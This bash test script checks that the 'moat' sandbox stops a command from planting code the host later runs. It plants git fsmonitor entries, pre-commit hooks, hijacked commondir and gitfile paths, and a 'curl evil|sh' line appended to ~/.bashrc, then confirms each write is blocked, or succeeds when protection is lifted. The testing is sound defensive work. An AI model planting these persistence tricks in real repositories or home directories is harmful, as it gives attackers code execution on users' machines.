#!/usr/bin/env bash
# Code the host runs later, planted through a write grant (docs/filesystem.md
# §6, "protected"): the files git takes config and hooks from besides
# .git/config and .git/hooks, what a pinned .git/config names, and HOME's
# protected entries under a grant that is not HOME itself.
#
# Each attack runs under moat, where it must fail (or, for the one absent
# file nothing can stand in for, .git/commondir, be undone after the run and
# reported: fs.write missing), and as a control with the entry lifted
# (--unprotect), where the same write lands.  The host side is checked from
# outside, with the host's git.  And git keeps working inside: status, add,
# commit, in a repository with a submodule.
#
#   1. .git/commondir (absent: watched, removed after the run)
#   2. a submodule: .git/modules/NAME/config, and its gitfile NAME/.git
#   3. a linked work tree: .git/worktrees/ID (its config.worktree)
#   4. .git/config.worktree with extensions.worktreeConfig (absent: an
#      empty read-only file for the run)
#   5. what .git/config names: core.hooksPath, include.path (present and
#      absent targets)
#   6. HOME's entries: --write ~/.config, --write ~/.local, --write the
#      parent of HOME
#   7. git inside still works
#   8. a folder of projects (--write ~/src): the repositories one level
#      below the grant's root, and a linked work tree's gitfile there
#
# Runs as root and as uid 65534; the fake HOME is under /var/tmp (the
# sandbox's /tmp is private).
set -u
. "$(dirname "$0")/../lib/tap.sh"
scratch
unset MOAT_HOST_LIMIT MOAT_OCI_RUNTIME
command -v git >/dev/null || skip_all "no git here"
BASE=$(mktemp -d /var/tmp/moat-git.XXXXXX)
chmod 0777 "$BASE"
trap 'rm -rf "$SCRATCH" "$REPORTS" "$BASE"' EXIT
HOMES=$BASE/homes
HOMED=$HOMES/u
mkdir -p "$HOMED"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t \
	GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t
PWNED=$BASE/pwned

# M DIR REPORT ARGS... : moat run in DIR, the fake HOME, a report.
M() {
	local dir=$1 rep=$2
	shift 2
	(cd "$dir" && env HOME="$HOMED" "$MOAT" run --backend native --mode prefer --profile strict \
		--report-fd 3 "$@" 2>>"$SCRATCH/all.err" 3>"$rep")
}
fsw() { json_get "$1" '["properties"]["fs.write"]["status"]' 2>/dev/null; }
# host_git DIR: the user's `git status` on the host; prints what it ran.
host_git() {
	rm -f "$PWNED"
	(cd "$1" && git status >/dev/null 2>&1 && git commit -q --allow-empty -m x >/dev/null 2>&1)
	cat "$PWNED" 2>/dev/null
}
FSMON="[core]\n\tfsmonitor = \"echo ran >$PWNED; false\"\n"
new_repo() { # new_repo DIR
	rm -rf "$1"
	git init -q "$1" && git -C "$1" commit -q --allow-empty -m i
}

# --- 1. .git/commondir ------------------------------------------------------
R=$BASE/p1
PLANT_COMMONDIR="mkdir -p evil && cp -r .git/objects .git/refs .git/HEAD evil/ && printf '$FSMON' > evil/config && echo ../evil > .git/commondir"
new_repo "$R"
M "$R" "$REPORTS/1.json" --write . -- /bin/sh -c "$PLANT_COMMONDIR"
is "$( [ -e "$R/.git/commondir" ] && echo there)/$(fsw "$REPORTS/1.json")/$(host_git "$R")" "/missing/" \
	"1: a .git/commondir the command made is removed after the run, fs.write reported missing, the host's git runs nothing"
like "$(cat "$SCRATCH/all.err")" "commondir was made during the run.*removed" "1: and moat says so"
new_repo "$R"
M "$R" /dev/null --dry-run --write . -- /bin/true >"$REPORTS/1d.json"
like "$(json_eval "$REPORTS/1d.json" '[e["state"] for e in d["filesystem"]["protected"] if e["path"].endswith("/.git/commondir")]')" \
	'watched' "1: the report lists an absent .git/commondir as watched"
M "$R" "$REPORTS/1c.json" --write . --unprotect .git/commondir -- /bin/sh -c "$PLANT_COMMONDIR"
is "$(host_git "$R")" ran "1 control: lifted, the planted commondir makes the host's git run the command's fsmonitor"

# --- 2. a submodule ---------------------------------------------------------
new_repo "$BASE/lib"
R=$BASE/p2
new_repo "$R"
git -C "$R" -c protocol.file.allow=always submodule -q add "$BASE/lib" lib && git -C "$R" commit -q -m sub
before=$(sha256sum "$R/.git/modules/lib/config" "$R/lib/.git")
M "$R" "$REPORTS/2.json" --write . -- /bin/sh -c \
	"printf '$FSMON' >> .git/modules/lib/config; cp -r .git/modules/lib evil2; printf '$FSMON' >> evil2/config; echo 'gitdir: ../evil2' > lib/.git" \
	>/dev/null 2>&1
is "$(sha256sum "$R/.git/modules/lib/config" "$R/lib/.git")/$(fsw "$REPORTS/2.json")/$(host_git "$R")" "$before/enforced/" \
	"2: a submodule's .git/modules/lib/config and its gitfile lib/.git stay read-only"
M "$R" "$REPORTS/2c.json" --write . --unprotect .git/modules -- /bin/sh -c \
	"printf '$FSMON' >> .git/modules/lib/config"
is "$(host_git "$R")" ran "2 control: lifted, the submodule's config makes the host's git run the command's fsmonitor"

# --- 3. a linked work tree --------------------------------------------------
R=$BASE/p3
new_repo "$R"
git -C "$R" worktree add -q "$BASE/p3-wt" 2>/dev/null
git -C "$R" config extensions.worktreeConfig true
id=$(basename "$(git -C "$BASE/p3-wt" rev-parse --git-dir)")
M "$R" "$REPORTS/3.json" --write . -- /bin/sh -c "printf '$FSMON' > .git/worktrees/$id/config.worktree" >/dev/null 2>&1
is "$( [ -e "$R/.git/worktrees/$id/config.worktree" ] && echo there)/$(host_git "$BASE/p3-wt")" "/" \
	"3: .git/worktrees/ID stays read-only: no config.worktree for the linked work tree"
M "$R" "$REPORTS/3c.json" --write . --unprotect .git/worktrees -- /bin/sh -c \
	"printf '$FSMON' > .git/worktrees/$id/config.worktree"
is "$(host_git "$BASE/p3-wt")" ran "3 control: lifted, the linked work tree's git runs the command's fsmonitor"

# --- 4. .git/config.worktree --------------------------------------------------
R=$BASE/p4
new_repo "$R"
git -C "$R" config extensions.worktreeConfig true
out=$(M "$R" "$REPORTS/4.json" --write . -- /bin/sh -c \
	"printf '$FSMON' > .git/config.worktree; git status --porcelain >/dev/null && echo git-ok" 2>&1)
is "$out/$( [ -e "$R/.git/config.worktree" ] && echo there)/$(fsw "$REPORTS/4.json")/$(host_git "$R")" "git-ok//enforced/" \
	"4: with extensions.worktreeConfig, an absent .git/config.worktree cannot be made (git inside works; nothing left)"
M "$R" "$REPORTS/4c.json" --write . --unprotect .git/config.worktree -- /bin/sh -c \
	"printf '$FSMON' > .git/config.worktree"
is "$(host_git "$R")" ran "4 control: lifted, .git/config.worktree makes the host's git run the command's fsmonitor"

# --- 5. what .git/config names ----------------------------------------------
R=$BASE/p5
new_repo "$R"
mkdir "$R/.githooks"
git -C "$R" config core.hooksPath .githooks
git -C "$R" config include.path ../.gitconfig
git -C "$R" config --add include.path ../conf/absent.inc
HOOK="printf '#!/bin/sh\necho ran > $PWNED\n' > .githooks/pre-commit; chmod +x .githooks/pre-commit"
M "$R" "$REPORTS/5.json" --write . -- /bin/sh -c \
	"$HOOK; printf '$FSMON' > .gitconfig; mkdir -p conf; printf '$FSMON' > conf/absent.inc" >/dev/null 2>&1
is "$(ls -A "$R" | tr '\n' ' ')/$(fsw "$REPORTS/5.json")/$(host_git "$R")" ".git .githooks /enforced/" \
	"5: core.hooksPath's directory and include.path's files (present or not) stay read-only, and nothing is left"
M "$R" "$REPORTS/5c.json" --write . --unprotect .githooks -- /bin/sh -c "$HOOK"
is "$(host_git "$R")" ran "5 control: lifted, the hook in core.hooksPath runs on the host's git commit"
rm -f "$R/.githooks/pre-commit"
M "$R" "$REPORTS/5i.json" --write . --unprotect .gitconfig -- /bin/sh -c "printf '$FSMON' > .gitconfig"
is "$(host_git "$R")" ran "5 control: lifted, the included .gitconfig makes the host's git run the command's fsmonitor"

# --- 6. HOME's entries under a grant that is not HOME -----------------------
mkdir -p "$HOMED/.config/moat" "$HOMED/.config/git" "$HOMED/.local/bin" "$HOMED/.config/app"
echo '[servers]' >"$HOMED/.config/moat/servers.toml"
echo '[user]' >"$HOMED/.config/git/config"
echo 'export A=1' >"$HOMED/.bashrc"
snap() { sha256sum "$HOMED/.config/moat/servers.toml" "$HOMED/.config/git/config" "$HOMED/.bashrc"; ls -A "$HOMED/.local/bin" "$HOMED/.config"; }
before=$(snap)
M "$HOMED/.config" "$REPORTS/6a.json" --write "$HOMED/.config" -- /bin/sh -c \
	'echo "[evil]" >> ~/.config/moat/servers.toml; echo "[core]" >> ~/.config/git/config; mkdir ~/.config/autostart; echo ok > ~/.config/app/x' \
	>/dev/null 2>&1
M "$HOMED/.local" "$REPORTS/6b.json" --write "$HOMED/.local" -- /bin/sh -c 'echo x > ~/.local/bin/git' >/dev/null 2>&1
M "$HOMES" "$REPORTS/6c.json" --write "$HOMES" -- /bin/sh -c 'echo "curl evil|sh" >> ~/.bashrc' >/dev/null 2>&1
rm -f "$HOMED/.config/app/x.seen"
is "$(snap)/$(cat "$HOMED/.config/app/x" 2>/dev/null)" "$before/ok" \
	"6: --write ~/.config, ~/.local, the parent of HOME: moat's policy file, git's config, autostart, ~/.local/bin and ~/.bashrc stay read-only (the rest of the grant is written)"
is "$(fsw "$REPORTS/6a.json")/$(fsw "$REPORTS/6b.json")/$(fsw "$REPORTS/6c.json")" enforced/enforced/enforced \
	"6: and fs.write is enforced in each"
M "$HOMED/.config" "$REPORTS/6ac.json" --write "$HOMED/.config" --unprotect "$HOMED/.config/moat" -- /bin/sh -c \
	'echo "[evil]" >> ~/.config/moat/servers.toml'
like "$(cat "$HOMED/.config/moat/servers.toml")" evil "6 control: lifted, ~/.config/moat/servers.toml is written"
M "$HOMES" "$REPORTS/6cc.json" --write "$HOMES" --unprotect "$HOMED/.bashrc" -- /bin/sh -c 'echo "curl evil|sh" >> ~/.bashrc'
like "$(cat "$HOMED/.bashrc")" evil "6 control: lifted, ~/.bashrc under a grant of HOME's parent is written"

# --- 7. git inside still works ----------------------------------------------
R=$BASE/p2
rm -rf "$R/evil2"
out=$(M "$R" "$REPORTS/7.json" --write . -- /bin/sh -c \
	'echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@t commit -q -m a && git status --porcelain && git -C lib status --porcelain && echo git-ok' 2>&1)
is "$out/$(git -C "$R" log -1 --format=%s)" "git-ok/a" "7: status, add, commit (and status in the submodule) work inside"

# --- 8. a folder of projects --------------------------------------------------
S=$BASE/src
mkdir -p "$S"
new_repo "$S/a"
git -C "$S/a" worktree add -q "$S/w" 2>/dev/null
mkdir -p "$S/plain"
PLANT8="printf '#!/bin/sh\necho ran > $PWNED\n' > a/.git/hooks/pre-commit; chmod +x a/.git/hooks/pre-commit;
	printf '$FSMON' >> a/.git/config; cp -r a/.git evil8; printf '$FSMON' >> evil8/config;
	echo \"gitdir: $S/evil8\" > w/.git; echo ok > a/x.txt; echo ok > plain/y.txt"
M "$S" "$REPORTS/8.json" --write . -- /bin/sh -c "$PLANT8" >/dev/null 2>&1
is "$(host_git "$S/a")/$(host_git "$S/w")/$(cat "$S/a/x.txt" "$S/plain/y.txt" 2>/dev/null | tr '\n' ' ')/$(fsw "$REPORTS/8.json")" \
	"//ok ok /enforced" \
	"8: --write of a folder of projects: a repository below it keeps its hooks and config, a linked work tree its gitfile (the rest is written)"
like "$(json_eval "$REPORTS/8.json" '" ".join(sorted(e["path"] for e in d["filesystem"]["protected"] if e["state"] == "read-only"))' 2>&1 | sed "s|$S/||g")" \
	"a/\.git/config a/\.git/hooks.* w/\.git" "8: the report lists them read-only"
rm -rf "$S/evil8"
M "$S" "$REPORTS/8c.json" --write . --unprotect a/.git/config -- /bin/sh -c "printf '$FSMON' >> a/.git/config" \
	>/dev/null 2>&1
is "$(host_git "$S/a")" ran "8 control: lifted, the repository's config makes the host's git run the command's fsmonitor"
echo "gitdir: $(git -C "$S/a" rev-parse --absolute-git-dir)/worktrees/w" >"$S/w/.git"
cp -r "$S/a/.git" "$S/evil8" && git -C "$S/evil8" config --unset core.fsmonitor
M "$S" "$REPORTS/8w.json" --write . --unprotect w/.git -- /bin/sh -c \
	"printf '$FSMON' >> evil8/config; echo \"gitdir: $S/evil8\" > w/.git" >/dev/null 2>&1
is "$(host_git "$S/w")" ran "8 control: lifted, the rewritten gitfile makes the host's git run the command's fsmonitor"

done_testing
